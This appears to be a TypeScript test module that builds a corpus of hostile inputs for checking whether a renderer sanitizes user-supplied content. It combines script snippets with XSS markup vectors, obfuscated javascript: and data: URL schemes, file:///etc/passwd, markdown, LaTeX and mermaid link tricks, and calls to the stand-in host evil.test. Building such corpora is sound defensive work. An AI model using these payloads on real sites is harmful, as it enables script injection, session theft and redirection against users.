/** Hostile texts: what has been used against pages that show what others wrote. */

const scripts = ["alert(1)", "fetch('//evil.test')", "top.location='//evil.test'"];

const markupWays = [
  "<script>X</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<img src=x onerror=X>",
  "<img src=//evil.test/a.png>",
  "<svg onload=X>",
  "<svg><script>X</script></svg>",
  "<svg><animate onbegin=X attributeName=x dur=1s>",
  "<iframe src=javascript:X></iframe>",
  '<iframe srcdoc="<script>X</script>"></iframe>',
  "<object data=//evil.test></object>",
  "<embed src=//evil.test>",
  "<link rel=stylesheet href=//evil.test/a.css>",
  "<style>@import '//evil.test/a.css';</style>",
  "<base href=//evil.test/>",
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  "<form action=//evil.test><button>go</button></form>",
  "<details open ontoggle=X>",
  "<video><source onerror=X></video>",
  "<math><mtext><table><mglyph><style><img src=x onerror=X>",
  "<a href=javascript:X>click</a>",
  "</pre></div><script>X</script>",
  "--><script>X</script><!--",
  "]]><script>X</script>",
  '"><script>X</script>',
  "' autofocus onfocus=X '",
  "<template><script>X</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=X>'>",
  "<input autofocus onfocus=X>",
  "<body onload=X>",
  "<marquee onstart=X>",
  "&lt;script&gt;X&lt;/script&gt;",
  "\\u003cscript\\u003eX\\u003c/script\\u003e",
];

const addresses = [
  "javascript:X",
  "JaVaScRiPt:X",
  "java\nscript:X",
  "java\tscript:X",
  " javascript:X",
  "\u0001javascript:X",
  "javascript&colon;X",
  "&#106;avascript:X",
  "vbscript:X",
  "data:text/html,<script>X</script>",
  "data:image/svg+xml,<svg onload=X>",
  "blob:https://evil.test/1",
  "file:///etc/passwd",
  "about:blank",
  "//evil.test/x",
  "\\\\evil.test\\x",
  "intent://x#Intent;end",
  "ms-settings:x",
  "view-source:https://evil.test",
  "ws://evil.test",
];

const linkForms = [
  "[a](ADDRESS)",
  "[a](<ADDRESS>)",
  "<ADDRESS>",
  "![a](ADDRESS)",
  "[a]: ADDRESS\n\n[a] ![a]",
  "ADDRESS",
];

const markdownWays = [
  '```mermaid\nclick a href "javascript:X"\n```',
  "```html\n<script>X</script>\n```",
  "$$\\href{javascript:X}{a}$$",
  "$$\\htmlData{onclick=X}{a} \\includegraphics{https://evil.test/a.png}$$",
  "$$\n\\def\\a{\\a\\a}\\a\n$$",
  "| a |\n|---|\n| <img src=x onerror=X> |",
  "- [ ] <script>X</script>",
  "[^1]\n\n[^1]: <script>X</script>",
  "\u202e<script>X</script>",
  "\u001b]8;;javascript:X\u0007a\u001b]8;;\u0007",
  "{{X}} ${X} <%= X %>",
  "__proto__",
  "constructor",
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=X>"}}}',
];

export function hostilePayloads(): string[] {
  const links = linkForms.flatMap((form) =>
    addresses.map((address) => form.replaceAll("ADDRESS", address)),
  );
  const all = [...markupWays, ...links, ...markdownWays];
  return [...new Set(all.flatMap((way) => scripts.map((script) => way.replaceAll("X", script))))];
}
